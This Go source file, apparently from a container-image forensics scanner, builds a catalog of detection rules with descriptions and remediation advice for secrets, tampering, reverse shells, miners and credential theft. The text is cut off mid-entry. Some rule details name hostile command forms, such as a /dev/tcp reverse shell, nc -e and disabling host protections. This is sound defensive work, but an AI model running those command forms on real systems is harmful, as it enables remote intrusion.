package report

import (
	"slices"
	"sort"
	"strings"
	"sync"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/signatures"
)

// CatalogRule describes one rule a scan can report: its id, what it catches, what to do about
// it, and where docs/rules.md documents it. The catalog is the one place rule descriptions
// come from: SARIF's rule descriptors, strata rules list and the rule index of docs/rules.md.
type CatalogRule struct {
	ID string `json:"id"`
	// Name is a YARA rule's name, or the analyzer's name for an analyzer's rule.
	Name      string `json:"name"`
	Namespace string `json:"namespace,omitempty"`
	// Source is where the rule lives: "analyzer:shell", "builtin:elf.yar:44", a user rule
	// file and line.
	Source   string `json:"source"`
	Category string `json:"category"`
	// Severity is the rule's usual severity; Severities says how it varies, "" when it does not.
	Severity   string `json:"severity"`
	Severities string `json:"severities,omitempty"`
	// Description is one line; Detail says what the rule catches and where it stays silent.
	Description string   `json:"description"`
	Detail      string   `json:"detail"`
	Remediation string   `json:"remediation"`
	Techniques  []string `json:"techniques"`
	Tags        []string `json:"tags"`
	// Anchor is the rule's anchor in docs/rules.md; HelpURI the page and anchor.
	Anchor  string `json:"anchor"`
	HelpURI string `json:"help_uri"`
}

// RulesDoc is where the rules are documented, for helpUri: the rule index of docs/rules.md.
const RulesDoc = InformationURI + "/blob/main/docs/rules.md"

// Catalog is the rules a scan can report, by id.
type Catalog struct {
	rules []CatalogRule
	byID  map[string]int
}

// Rules returns the catalog's rules: the analyzers' first, by id, then the YARA rules in the
// order their rule set lists them.
func (c *Catalog) Rules() []CatalogRule { return append([]CatalogRule(nil), c.rules...) }

// Lookup returns the rule with id.
func (c *Catalog) Lookup(id string) (CatalogRule, bool) {
	if c == nil {
		return CatalogRule{}, false
	}
	i, ok := c.byID[id]
	if !ok {
		return CatalogRule{}, false
	}
	return c.rules[i], true
}

func (c *Catalog) add(r CatalogRule) {
	if _, ok := c.byID[r.ID]; ok {
		return // an analyzer's entry wins over a YARA rule with its id
	}
	if r.Anchor == "" {
		r.Anchor = anchorOf(r.ID)
	}
	if r.HelpURI == "" {
		r.HelpURI = RulesDoc + "#" + r.Anchor
	}
	if r.Remediation == "" {
		r.Remediation = categoryRemediation[r.Category]
	}
	if r.Detail == "" {
		r.Detail = r.Description
	}
	cat, _ := audit.ParseCategory(r.Category)
	r.Techniques = mergeStrings(r.Techniques, audit.TechniquesFor(r.ID, "", cat))
	tags := []string{"security", r.Category}
	for _, t := range r.Techniques {
		tags = append(tags, "external/mitre/attack/"+t)
	}
	r.Tags = mergeStrings(r.Tags, tags)
	c.byID[r.ID] = len(c.rules)
	c.rules = append(c.rules, r)
}

// anchorOf is a rule's anchor in docs/rules.md: its id in lower case, other characters as
// dashes ("strata-rs-001").
func anchorOf(id string) string {
	var b strings.Builder
	for _, r := range strings.ToLower(id) {
		if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' || r == '-' {
			b.WriteRune(r)
		} else {
			b.WriteByte('-')
		}
	}
	return b.String()
}

func mergeStrings(a, b []string) []string {
	out := append([]string{}, a...)
	for _, s := range b {
		if s != "" && !slices.Contains(out, s) {
			out = append(out, s)
		}
	}
	return out
}

// NewCatalog returns the analyzers' rules and the YARA rules given (a rule set's Rules(): the
// built-in ones and any user rules).
func NewCatalog(yara []signatures.Rule) *Catalog {
	c := &Catalog{byID: map[string]int{}}
	rs := analyzerRules()
	sort.SliceStable(rs, func(i, j int) bool { return rs[i].ID < rs[j].ID })
	for _, r := range rs {
		c.add(r)
	}
	for _, y := range yara {
		id := y.Meta.ID
		if id == "" {
			id = y.Namespace + ":" + y.Name
		}
		r := CatalogRule{ID: id, Name: y.Name, Namespace: y.Namespace, Source: y.Source, Category: y.Meta.Category,
			Severity: y.Meta.Severity, Description: y.Meta.Description, Techniques: y.Meta.Techniques, Tags: append([]string{}, y.Tags...)}
		if r.Description == "" {
			r.Description = "YARA rule " + id
		}
		r.Detail = r.Description + ". YARA rule " + y.Name + " (" + y.Source + ")."
		if !strings.HasPrefix(y.Source, "builtin:") {
			r.Anchor, r.HelpURI = "user-rules", RulesDoc+"#user-rules"
		}
		c.add(r)
	}
	return c
}

var (
	builtinOnce    sync.Once
	builtinCatalog *Catalog
)

// BuiltinCatalog is the catalog of the analyzers' rules and the built-in YARA rules.
func BuiltinCatalog() *Catalog {
	builtinOnce.Do(func() {
		var yara []signatures.Rule
		if rs, err := signatures.Compile(signatures.Options{}); err == nil {
			yara = rs.Rules()
			rs.Close()
		}
		builtinCatalog = NewCatalog(yara)
	})
	return builtinCatalog
}

// categoryRemediation is what to do about a finding of a category when its rule says nothing
// more particular.
var categoryRemediation = map[string]string{
	"reverse-shell":     "Treat the image as compromised: find the build step that added the file, rebuild from a trusted base and source, and look for the address it connects to in network logs.",
	"ld-preload":        "Remove the preload (LD_PRELOAD, /etc/ld.so.preload) and the library, rebuild the image from trusted sources, and treat containers run from it as compromised.",
	"persistence":       "Remove what runs by itself, find the build step that placed it, and rebuild from trusted sources.",
	"ssh-key":           "Remove the key unless the image is meant to be reached over SSH; never ship root's authorized_keys.",
	"miner":             "Remove the miner and rebuild; look for the pool and wallet in other images and in network logs.",
	"webshell":          "Remove the page, find the build step that added it, and rebuild; look for requests to it in web server logs.",
	"secret":            "Revoke the secret, remove it from the image and its history (rebuild; a later layer deleting it keeps it in the lower one), and pass secrets at run time.",
	"suid":              "Remove the setuid or setgid bit unless the program needs it.",
	"root-user":         "Run as an unprivileged user (USER) and keep root accounts to root.",
	"exposed-port":      "Do not expose remote-administration ports from application images.",
	"hidden-file":       "Look at what the lower layer holds: a later layer removing a file does not remove it from the image.",
	"timestomp":         "Treat the file's dates as unknown: compare with the chain of custody and the original image.",
	"tamper":            "Do not trust the image: get it again from a trusted registry and compare digests.",
	"untrusted-base":    "Build on a base image you trust, or add the base to the trust store (strata trust add) once vetted.",
	"misconfig":         "Fix the configuration in the Dockerfile and rebuild.",
	"malware":           "Treat the image as compromised: remove the file, find the build step that added it, and rebuild from trusted sources.",
	"package-integrity": "Reinstall the package from a trusted mirror and compare; treat the image as compromised until the difference is explained.",
	"non-packaged":      "Find which build step put the program there and why; install software through the package manager or under /usr/local or /opt.",
	"vulnerability":     "Upgrade the package to a fixed version and rebuild.",
	"credential-theft":  "Treat every credential the file reads as stolen (keys, cloud credentials, passwords, tokens in the environment): revoke and rotate them, remove the file, and look for its destination in network and mail logs.",
	"escape":            "Do not run the image: treat the hosts it ran on as compromised, and never mount the container runtime's socket or the host's root into containers, nor run them privileged or with the host's PID namespace.",
}

// analyzerRules is each analyzer's rule table: the rules Strata's analyzers raise without
// YARA. A test keeps every rule id the analyzers name in here.
func analyzerRules() []CatalogRule {
	var out []CatalogRule
	table := func(analyzer string, rs ...CatalogRule) {
		for _, r := range rs {
			r.Name, r.Source = analyzer, "analyzer:"+analyzer
			out = append(out, r)
		}
	}
	table("scan",
		CatalogRule{ID: "STRATA-SCAN-001", Category: "malware", Severity: "info", Description: "File larger than --max-file-size: hashed, not content-scanned",
			Detail:      "A file over the scan's size limit is hashed and indexed but no content analyzer sees it; its hash can still be traced.",
			Remediation: "Raise --max-file-size to scan it, or look at it by hand (strata export)."},
		CatalogRule{ID: "STRATA-SCAN-002", Category: "tamper", Severity: "medium", Description: "An analyzer failed on the evidence",
			Detail:      "An analyzer or parser stopped on a file or image it could not handle (it panicked); the scan went on without it and names what broke it.",
			Remediation: "Look at the named file by hand: it may be crafted to break tools."},
		CatalogRule{ID: "STRATA-YARA-ERR", Category: "malware", Severity: "info", Description: "YARA scan of a file failed or timed out",
			Detail:      "YARA could not finish scanning a file (a timeout or an error): the built-in and user rules did not see all of it.",
			Remediation: "Scan the file on its own (strata export, then yara) or raise the timeout."},
	)
	table("secrets",
		CatalogRule{ID: "STRATA-SE-001", Category: "secret", Severity: "high", Description: "Secret in the config's Env",
			Detail: "A secret-named variable with a value, a token format or a URL password in the image config's Env: every container and everyone who pulls the image gets it."},
		CatalogRule{ID: "STRATA-SE-002", Category: "secret", Severity: "high", Description: "Secret in a history step",
			Detail: "A build argument, NAME=value assignment, URL password, --password= flag or chpasswd in a history line: the history ships with the image."},
		CatalogRule{ID: "STRATA-SE-010", Category: "secret", Severity: "high", Severities: "encrypted keys, SSH host keys and keys inside compiled files: medium; snakeoil: low",
			Description: "PEM private key", Detail: "A PEM private key block (RSA, EC, DSA, OpenSSH, PKCS#8) in a file."},
		CatalogRule{ID: "STRATA-SE-011", Category: "secret", Severity: "high", Description: "AWS access key ID",
			Detail: "An AWS access key ID (AKIA/ASIA...) in a file, Env or history."},
		CatalogRule{ID: "STRATA-SE-012", Category: "secret", Severity: "high", Severities: "critical with the key ID beside it",
			Description: "AWS secret access key", Detail: "An AWS secret access key assigned to its usual name; with its key ID it is a working credential."},
		CatalogRule{ID: "STRATA-SE-013", Category: "secret", Severity: "high", Description: "GitHub token", Detail: "A GitHub personal, OAuth, app or fine-grained token."},
		CatalogRule{ID: "STRATA-SE-014", Category: "secret", Severity: "high", Description: "GitLab personal access token", Detail: "A GitLab personal access token (glpat-)."},
		CatalogRule{ID: "STRATA-SE-015", Category: "secret", Severity: "high", Description: "Slack token or incoming webhook", Detail: "A Slack bot, user or app token, or an incoming webhook URL."},
		CatalogRule{ID: "STRATA-SE-016", Category: "secret", Severity: "high", Description: "Stripe live secret key", Detail: "A Stripe live secret or restricted key (sk_live_, rk_live_)."},
		CatalogRule{ID: "STRATA-SE-017", Category: "secret", Severity: "medium", Description: "JSON Web Token", Detail: "A signed JSON Web Token: a bearer credential until it expires."},
		CatalogRule{ID: "STRATA-SE-018", Category: "secret", Severity: "medium", Description: "Secret-named setting with a literal value in a .env or config file",
			Detail: "A setting named like a secret (password, token, api_key, secret) with a literal value in a .env, YAML, INI, JSON or properties file; placeholders and variable references are left out."},
		CatalogRule{ID: "STRATA-SE-020", Category: "secret", Severity: "high", Description: "SSH identity file", Detail: "A private SSH identity (id_rsa, id_ed25519, ...) in a home directory."},
		CatalogRule{ID: "STRATA-SE-021", Category: "secret", Severity: "high", Description: "Docker registry credentials", Detail: "auths with credentials in a .docker/config.json."},
		CatalogRule{ID: "STRATA-SE-022", Category: "secret", Severity: "high", Description: "npm credentials in .npmrc", Detail: "An _authToken, _auth or _password in an .npmrc."},
		CatalogRule{ID: "STRATA-SE-023", Category: "secret", Severity: "high", Description: "PyPI credentials in .pypirc", Detail: "A password or token in a .pypirc."},
		CatalogRule{ID: "STRATA-SE-024", Category: "secret", Severity: "high", Description: "Credentials in .netrc", Detail: "A machine entry with a password in a .netrc."},
		CatalogRule{ID: "STRATA-SE-025", Category: "secret", Severity: "high", Description: "Credentials in .git-credentials", Detail: "A URL with a password or token in a .git-credentials file."},
		CatalogRule{ID: "STRATA-SE-026", Category: "secret", Severity: "high", Description: "AWS credentials file", Detail: "An aws_secret_access_key in an AWS credentials or config file."},
		CatalogRule{ID: "STRATA-SE-030", Category: "secret", Severity: "high", Description: "npm access token", Detail: "An npm access token (npm_...)."},
		CatalogRule{ID: "STRATA-SE-031", Category: "secret", Severity: "high", Description: "PyPI API token", Detail: "A PyPI API token (pypi-...)."},
		CatalogRule{ID: "STRATA-SE-032", Category: "secret", Severity: "high", Description: "Docker Hub access token", Detail: "A Docker Hub personal access token (dckr_pat_...)."},
		CatalogRule{ID: "STRATA-SE-033", Category: "secret", Severity: "medium", Description: "Google API key", Detail: "A Google API key (AIza...)."},
		CatalogRule{ID: "STRATA-SE-034", Category: "secret", Severity: "high", Description: "AI platform API key (OpenAI, Anthropic)", Detail: "An OpenAI or Anthropic API key."},
		CatalogRule{ID: "STRATA-SE-035", Category: "secret", Severity: "high", Description: "DigitalOcean access token", Detail: "A DigitalOcean personal access or OAuth token."},
		CatalogRule{ID: "STRATA-SE-036", Category: "secret", Severity: "high", Description: "Shopify access token", Detail: "A Shopify access token (shpat_, shpca_, shppa_, shpss_)."},
		CatalogRule{ID: "STRATA-SE-037", Category: "secret", Severity: "high", Description: "Azure storage account key", Detail: "An Azure storage account key in a connection string."},
		CatalogRule{ID: "STRATA-SE-038", Category: "secret", Severity: "high", Description: "SendGrid API key", Detail: "A SendGrid API key (SG.<id>.<secret>)."},
		CatalogRule{ID: "STRATA-SE-039", Category: "secret", Severity: "high", Description: "Hugging Face access token", Detail: "A Hugging Face user access token (hf_...)."},
		CatalogRule{ID: "STRATA-SE-040", Category: "secret", Severity: "high", Description: "age secret key", Detail: "An age encryption secret key (AGE-SECRET-KEY-1...): whoever holds it decrypts what was encrypted to it."},
		CatalogRule{ID: "STRATA-SE-041", Category: "secret", Severity: "high", Description: "Postman API key", Detail: "A Postman API key (PMAK-...)."},
		CatalogRule{ID: "STRATA-SE-042", Category: "secret", Severity: "high", Description: "Grafana service account token", Detail: "A Grafana service account token (glsa_...)."},
		CatalogRule{ID: "STRATA-SE-019", Category: "secret", Severity: "medium", Description: "Password in a connection URL in a configuration file",
			Detail: "A connection URL with a password (postgres://app:pw@db, mysql, mongodb, redis, amqp, ldap, smtp, http ...) in a configuration file; placeholders and example hosts are left out."},
		CatalogRule{ID: "STRATA-SE-027", Category: "secret", Severity: "high", Description: "HashiCorp Vault token", Detail: "A HashiCorp Vault token in a .vault-token file."},
		CatalogRule{ID: "STRATA-SE-028", Category: "secret", Severity: "high", Description: "Kubernetes credentials in a kubeconfig",
			Detail: "A user's bearer token, client certificate key or password in a kubeconfig (~/.kube/config, *.kubeconfig, /etc/kubernetes/*.conf, a .yaml, .yml or .conf file of kind Config with users and clusters): whoever reads the image can act on the cluster."},
	)
	table("config",
		CatalogRule{ID: "STRATA-CF-001", Category: "root-user", Severity: "medium", Description: "Runs as root: no USER, or USER root/0",
			Detail: "The image's processes run as root, which makes escaping the container easier."},
		CatalogRule{ID: "STRATA-CF-002", Category: "exposed-port", Severity: "medium", Severities: "telnet, rsh and the Docker API without TLS: high",
			Description: "EXPOSE of a remote-administration port", Detail: "The config exposes SSH, telnet, rsh, RDP, VNC, the Docker API or another remote-administration port."},
		CatalogRule{ID: "STRATA-CF-003", Category: "ld-preload", Severity: "high", Severities: "critical when the library is in the image outside the system library directories",
			Description: "LD_PRELOAD or LD_AUDIT in Env", Detail: "The config's Env preloads a library into every process the container runs."},
		CatalogRule{ID: "STRATA-CF-004", Category: "ld-preload", Severity: "low", Severities: "high for writable or relative directories",
			Description: "LD_LIBRARY_PATH in Env", Detail: "The config's Env puts directories before the system's on the library search path."},
		CatalogRule{ID: "STRATA-CF-005", Category: "misconfig", Severity: "medium", Severities: "ADD of a URL: low",
			Description: "Code fetched over the network at build time", Detail: "A build step pipes curl or wget into a shell, or ADDs a URL: what ran is whatever the server sent then."},
		CatalogRule{ID: "STRATA-CF-006", Category: "misconfig", Severity: "low", Description: "Tagged latest (or untagged)", Detail: "A latest tag names whatever was pushed last: deployments cannot say which image they run."},
		CatalogRule{ID: "STRATA-CF-007", Category: "misconfig", Severity: "info", Description: "No HEALTHCHECK", Detail: "The image declares no health check."},
		CatalogRule{ID: "STRATA-CF-008", Category: "misconfig", Severity: "low", Description: "sudo installed", Detail: "sudo is installed in the image: a way back to root for a process that runs as a user."},
	)
	table("filesystem",
		CatalogRule{ID: "STRATA-FS-001", Category: "suid", Severity: "info", Severities: "info for well-known programs in system directories up to high in unusual places or added above the base outside the system directories",
			Description: "Setuid or setgid file", Detail: "A file with the setuid or setgid bit: it runs with its owner's or group's privileges."},
		CatalogRule{ID: "STRATA-FS-002", Category: "misconfig", Severity: "medium", Severities: "high for executables and directories",
			Description: "World-writable file in a system directory", Detail: "A world-writable file in /etc, /usr, /bin, /sbin, /lib, /boot, /root or /opt: any user can change what runs."},
		CatalogRule{ID: "STRATA-FS-003", Category: "ld-preload", Severity: "critical", Severities: "medium when it lists nothing",
			Description: "/etc/ld.so.preload present", Detail: "/etc/ld.so.preload makes the dynamic loader load its libraries into every program."},
		CatalogRule{ID: "STRATA-FS-004", Category: "ssh-key", Severity: "medium", Severities: "high for root",
			Description: "authorized_keys file", Detail: "An SSH authorized_keys file: whoever holds the matching private key can log in."},
		CatalogRule{ID: "STRATA-FS-005", Category: "misconfig", Severity: "high", Severities: "critical for root",
			Description: "Empty password in /etc/passwd or /etc/shadow", Detail: "An account with an empty password field: anyone can log in as it."},
		CatalogRule{ID: "STRATA-FS-006", Category: "root-user", Severity: "critical", Description: "uid 0 account other than root",
			Detail: "An account other than root with uid 0 in /etc/passwd: a second root, the usual backdoor account. Labelled persistence, and tamper when its password hash is written into /etc/passwd."},
		CatalogRule{ID: "STRATA-FS-007", Category: "timestomp", Severity: "low", Severities: "medium for executables",
			Description: "File dated after the image was created", Detail: "A file's mtime is more than five minutes after the image's created time: one of the two dates is false (past 20 per layer: one summary finding)."},
		CatalogRule{ID: "STRATA-FS-008", Category: "hidden-file", Severity: "medium", Severities: "the hidden finding's severity, raised one step",
			Description: "A flagged file that a later layer removed or replaced", Detail: "A later layer whited out or replaced a file a finding is about: the file is still in the image, in the lower layer."},
		CatalogRule{ID: "STRATA-FS-009", Category: "hidden-file", Severity: "medium", Severities: "low in the package directories",
			Description: "Code a later layer whited out", Detail: "An executable, script, library or server page that a later layer whited out, with the layer that holds it and the one that hid it (past 20 per layer: one summary finding)."},
		CatalogRule{ID: "STRATA-FS-012", Category: "hidden-file", Severity: "high",
			Description: "Program with a hidden name in a system program directory",
			Detail:      "An executable file whose name starts with a dot directly in /bin, /sbin, /usr/bin, /usr/sbin, /usr/local/bin, /usr/local/sbin, /usr/games or /usr/libexec: run by name, left out of listings; no package installs one. Labelled malware."},
		CatalogRule{ID: "STRATA-FS-010", Category: "root-user", Severity: "high", Description: "Account database too big to check",
			Detail:      "/etc/passwd or /etc/shadow is larger than Strata keeps for analysis (1 MB): a real one is a few kilobytes, and padding could hide a uid 0 account or an empty password.",
			Remediation: "Read the file by hand (strata export)."},
	)
	table("tamper",
		CatalogRule{ID: "STRATA-FS-011", Category: "tamper", Severity: "medium", Description: "Command history linked to /dev/null",
			Detail: "A shell's or interactive program's history file (.bash_history, .zsh_history, .mysql_history ...) is a symlink to /dev/null: what is typed as that user is never kept."},
		CatalogRule{ID: "STRATA-TP-001", Category: "tamper", Severity: "high", Description: "Layer blob does not match its manifest digest", Detail: "The stored bytes of a layer hash to something else than the manifest says."},
		CatalogRule{ID: "STRATA-TP-002", Category: "tamper", Severity: "high", Description: "Layer content does not match the config's diff_id", Detail: "A layer's uncompressed content hashes to something else than the config's diff_id: the layer was swapped."},
		CatalogRule{ID: "STRATA-TP-003", Category: "tamper", Severity: "high", Description: "Config does not hash to the image ID the archive names", Detail: "The archive names an image ID its config does not hash to."},
		CatalogRule{ID: "STRATA-TP-004", Category: "tamper", Severity: "medium", Description: "History does not match the layers", Detail: "The history's steps that made layers do not match the layers: layers were added or removed without their build steps."},
		CatalogRule{ID: "STRATA-TP-005", Category: "tamper", Severity: "high", Description: "Tar entry path climbs above the root", Detail: "A layer entry's path holds .. or is absolute: naive extraction writes outside the root."},
		CatalogRule{ID: "STRATA-TP-006", Category: "tamper", Severity: "medium", Description: "Link points above the root", Detail: "A symbolic or hard link in a layer points outside the root."},
		CatalogRule{ID: "STRATA-TP-007", Category: "tamper", Severity: "low", Description: "Path appears more than once in a layer", Detail: "Tools disagree about which copy of a duplicated entry wins."},
		CatalogRule{ID: "STRATA-TP-008", Category: "tamper", Severity: "low", Description: "Malformed tar entry", Detail: "A layer entry could not be read as tar."},
		CatalogRule{ID: "STRATA-TP-009", Category: "tamper", Severity: "medium", Description: "Layer is truncated or corrupt", Detail: "A layer's stream ends early or does not decompress."},
		CatalogRule{ID: "STRATA-TP-010", Category: "tamper", Severity: "low", Description: "Anomaly while reading the image", Detail: "Something about the evidence is wrong in a way the other tamper rules do not name."},
		CatalogRule{ID: "STRATA-TP-011", Category: "tamper", Severity: "medium", Description: "Tar entry name is absolute",
			Detail: "A layer entry named from the root (/etc/...): a naive extraction writes it outside the target directory."},
		CatalogRule{ID: "STRATA-TP-012", Category: "tamper", Severity: "high", Description: "Tar entry written through a symlink",
			Detail: "A layer entry whose parent is a symbolic link: extraction follows the link and writes or removes outside the path the tar names."},
		CatalogRule{ID: "STRATA-TP-013", Category: "tamper", Severity: "low", Description: "Hard link whose target does not exist",
			Detail: "A hard link to a path that does not exist when it is extracted: extraction fails or the link points elsewhere than it seems."},
		CatalogRule{ID: "STRATA-TP-014", Category: "tamper", Severity: "medium", Description: "Layer read no further: it exceeds a limit",
			Detail:      "A layer holds more entries, names or decompressed bytes than any real image does; Strata stops reading it there.",
			Remediation: "Look at the layer by hand: such a layer is built to exhaust tools."},
		CatalogRule{ID: "STRATA-TP-015", Category: "tamper", Severity: "high", Description: "Archive member appears more than once",
			Detail: "An image archive holds two members of one name: tools disagree about which copy is the image (docker load keeps the last)."},
	)
	table("trust",
		CatalogRule{ID: "STRATA-TR-001", Category: "untrusted-base", Severity: "medium", Description: "Not built on a trusted base image",
			Detail: "The trust store holds images and none is a prefix of this image's layer chain."},
	)
	table("packages",
		CatalogRule{ID: "STRATA-PKG-001", Category: "package-integrity", Severity: "high", Description: "A package's program or library differs from its checksum",
			Detail: "A program or library differs from the checksum its package database records: a trojaned system binary, or a file changed after install."},
		CatalogRule{ID: "STRATA-PKG-002", Category: "package-integrity", Severity: "medium", Description: "A package's file differs from its checksum",
			Detail: "A file other than a program or configuration file differs from the checksum its package database records."},
		CatalogRule{ID: "STRATA-PKG-003", Category: "package-integrity", Severity: "low", Description: "A package's configuration file differs",
			Detail: "A configuration file differs from the package's: expected after an administrator's edit, worth a look for code."},
		CatalogRule{ID: "STRATA-PKG-010", Category: "non-packaged", Severity: "medium", Severities: "high in the base image's layers",
			Description: "A program in a system path that no package owns", Detail: "An executable in a system directory that no package database lists."},
		CatalogRule{ID: "STRATA-PKG-020", Category: "package-integrity", Severity: "medium", Description: "Package database or metadata file could not be read",
			Detail:      "A package database (dpkg, rpm, apk) or a package's metadata file is malformed or too large: the inventory and integrity checks miss what it holds.",
			Remediation: "Look at the file by hand (strata export): a broken database can hide packages."},
	)
	table("vulns",
		CatalogRule{ID: "STRATA-VULN-002", Category: "vulnerability", Severity: "low", Description: "Advisory database empty or stale",
			Detail:      "--vulns ran with an empty advisory database, or one whose newest record is older than --vulndb-max-age.",
			Remediation: "Import a current OSV export (strata vulndb import)."},
	)
	table("shell",
		CatalogRule{ID: "STRATA-RS-001", Category: "reverse-shell", Severity: "critical", Description: "Shell reading its commands from a /dev/tcp or /dev/udp connection",
			Detail: "A shell whose standard input and output are a /dev/tcp or /dev/udp connection (bash -i >& /dev/tcp/HOST/PORT 0>&1), found by parsing the script, not by its spelling."},
		CatalogRule{ID: "STRATA-RS-002", Category: "reverse-shell", Severity: "critical", Description: "Network tool told to run a shell for its peer",
			Detail: "nc -e, ncat --sh-exec, telnetd -l, rcat -s and the like, joining a connection to a shell; bind shells say so."},
		CatalogRule{ID: "STRATA-RS-003", Category: "reverse-shell", Severity: "critical", Description: "Shell looped through a named pipe and a network tool",
			Detail: "mkfifo and a shell whose input and output loop through a network client."},
		CatalogRule{ID: "STRATA-RS-004", Category: "reverse-shell", Severity: "critical", Description: "socat joining a connection to a shell", Detail: "socat with an EXEC or SYSTEM address running a shell and a network address."},
		CatalogRule{ID: "STRATA-RS-005", Category: "reverse-shell", Severity: "critical", Severities: "high for an interactive shell whose output alone is piped into a network client",
			Description: "Shell reading commands from a network client through a pipe",
			Detail:      "nc, telnet or openssl s_client piped into a shell, or an interactive shell (-i) piped into one."},
		CatalogRule{ID: "STRATA-RS-006", Category: "reverse-shell", Severity: "critical", Description: "Python code joining a socket to a shell", Detail: "Python that connects a socket and runs a shell over it (dup2 and exec, pty.spawn, subprocess)."},
		CatalogRule{ID: "STRATA-RS-007", Category: "reverse-shell", Severity: "critical", Description: "Perl code joining a socket to a shell", Detail: "Perl that connects a socket and runs a shell over it."},
		CatalogRule{ID: "STRATA-RS-008", Category: "reverse-shell", Severity: "critical", Description: "Ruby code joining a socket to a shell", Detail: "Ruby that connects a socket and runs a shell over it."},
		CatalogRule{ID: "STRATA-RS-009", Category: "reverse-shell", Severity: "critical", Description: "PHP code joining a socket to a shell", Detail: "PHP that opens a socket and runs a shell over it."},
		CatalogRule{ID: "STRATA-RS-010", Category: "reverse-shell", Severity: "critical", Description: "Lua code joining a socket to a shell", Detail: "Lua that connects a socket and runs a shell over it."},
		CatalogRule{ID: "STRATA-RS-011", Category: "reverse-shell", Severity: "critical", Description: "Node.js code joining a socket to a shell", Detail: "Node.js that connects a socket and pipes it into a shell."},
		CatalogRule{ID: "STRATA-RS-012", Category: "reverse-shell", Severity: "high", Description: "awk running commands it reads from a /inet connection", Detail: "gawk /inet coprocess running the commands it reads."},
		CatalogRule{ID: "STRATA-RS-013", Category: "reverse-shell", Severity: "critical", Description: "Commands read from a network connection and run", Detail: "A loop that reads commands from a network connection and runs them."},
		CatalogRule{ID: "STRATA-RS-014", Category: "reverse-shell", Severity: "high", Description: "X terminal opened on a remote display", Detail: "xterm -display HOST:N: a shell on someone else's screen."},
		CatalogRule{ID: "STRATA-RS-015", Category: "reverse-shell", Severity: "high", Description: "Tcl code running commands it reads from a socket", Detail: "Tcl that opens a socket and runs what it reads."},
		CatalogRule{ID: "STRATA-RS-016", Category: "reverse-shell", Severity: "critical", Severities: "high for an SSH server or HTTP beacon kept as source",
			Description: "Go source (go run) joining a connection to a shell; Go SSH backdoor or HTTP beacon source",
			Detail:      "Go source run with go run that dials out and runs a shell over the connection. Go source of an SSH server of its own (gliderlabs/ssh, x/crypto/ssh's ServerConfig) whose session handler starts a shell joined to the session (a pty, io.Copy, the session as its standard streams), the evidence saying when it passes for OpenSSH; or of an HTTP client that reads a server's answer, runs a shell's -c (or the words it was given) with it, keeps the output and sends something back with a pause between rounds; or of a connection whose lines become exec.Command(w[0], w[1:]...) with the output written back: high, labelled malware."},
		CatalogRule{ID: "STRATA-RS-017", Category: "reverse-shell", Severity: "critical", Description: "Java, Groovy or JVM script code joining a socket to a shell",
			Detail: "Java, Groovy or jjs code that opens a socket and starts a shell whose streams it relays over it."},
		CatalogRule{ID: "STRATA-RS-018", Category: "reverse-shell", Severity: "critical", Description: "C source joining a socket to a shell",
			Detail: "C source that connects (or accepts) a socket, dup2s it onto standard input and output and execs a shell."},
		CatalogRule{ID: "STRATA-RS-019", Category: "reverse-shell", Severity: "critical", Severities: "high for a command loop",
			Description: "Rust source joining a socket to a shell, or running the lines it reads from one",
			Detail:      "Rust source that connects a TcpStream and hands its descriptor to a shell it spawns; or that binds a TcpListener (or connects a TcpStream), reads from the connection and starts Command::new with what it read (or a shell's -c), writing the output back: a bind or reverse shell's command loop, high, labelled malware."},
		CatalogRule{ID: "STRATA-RS-022", Category: "reverse-shell", Severity: "critical", Description: "R code running the commands it reads from a socket",
			Detail: "R code that opens a socket connection, reads lines from it and runs them through a pipe or system()."},
		CatalogRule{ID: "STRATA-RS-023", Category: "reverse-shell", Severity: "critical", Description: "Dart code joining a socket to a shell",
			Detail: "Dart code that connects a Socket and pipes it into a shell process it starts."},
		CatalogRule{ID: "STRATA-RS-024", Category: "reverse-shell", Severity: "critical", Description: "Agent polling a web server for commands, running them and sending the output back", Severities: "high when it sends nothing back and pauses between runs",
			Detail: "A loop that fetches a command from a URL (curl, wget; requests, urllib, fetch, axios, http, LWP, HTTP::Tiny, Net::HTTP), runs it and posts the output back: an HTTP command-and-control agent. A loop that runs what it fetches again and again with a pause between (sleep), sending nothing back, polls all the same."},
		CatalogRule{ID: "STRATA-RS-025", Category: "reverse-shell", Severity: "high", Description: "SSH tunnel opening a way back into this machine for a remote host", Severities: "medium for a SOCKS proxy or a unit's tunnel as an unprivileged user with host keys checked, critical when kept up (autossh, a relaunching loop, a password fed to it, an autostart place)",
			Detail: "An SSH client opening a remote forward (-R, RemoteForward), a tun device (-w) or a SOCKS proxy (-D) to an outside host with no command to run: remote access through a tunnel."},
		CatalogRule{ID: "STRATA-RS-026", Category: "reverse-shell", Severity: "high", Severities: "medium when it publishes another service; critical from a place that runs again",
			Description: "Reverse proxy client publishing this machine's remote access or a proxy into its network on a remote server",
			Detail:      "frp client settings (INI, TOML, YAML, written by a script too) with a server address and a proxy whose local port is SSH, telnet, RDP, VNC or WinRM or whose plugin is socks5, http_proxy or https2http; chisel client with a reverse remote (R:socks, R:...:22); ngrok tcp and bore local of such a port."},
		CatalogRule{ID: "STRATA-RS-027", Category: "reverse-shell", Severity: "high", Description: "Assembly source of a reverse or bind shell (raw system calls)",
			Detail: "Assembly source (.asm, .s, .S, .nasm; NASM or GAS, AT&T or Intel syntax; x86-64 syscall, i386 int 0x80 with socketcall or the direct calls, ARM svc) whose raw system calls make a socket, connect it (or bind, listen and accept), duplicate it onto the standard descriptors (dup2, dup3) and exec a program: the numbers followed through mov, push and pop, xor, add and inc into the number register, as literals or equ, %define, .equ and SYS_ or __NR_ names. Labelled malware (T1059.004, T1095)."},
		CatalogRule{ID: "STRATA-MN-010", Category: "miner", Severity: "high", Description: "Cryptocurrency miner started with a mining pool and an account",
			Detail: "A miner's command line wherever shell runs (scripts, crontab lines, unit Exec lines, history RUN steps, the image's command): a pool option with a host and port and a wallet, a mining algorithm or a miner's own options, or a stratum URL. Renamed binaries are found by their arguments."},
		CatalogRule{ID: "STRATA-MN-011", Category: "miner", Severity: "high", Description: "Miner dropper: the machine readied for mining and cleared of rival miners",
			Detail: "A script that kills rival miners (by their names, pools or stratum ports) and readies the machine for mining (huge pages, the MSR module, the NMI watchdog off), or does three of these and turns off the host's protections (setenforce 0, ufw disable, iptables -F, SELinux disabled) or copies a downloader to another name: what mining malware does before it fetches and starts the miner."},
		CatalogRule{ID: "STRATA-CT-001", Category: "credential-theft", Severity: "high", Severities: "critical for keys or password hashes",
			Description: "Credentials collected and sent off the machine",
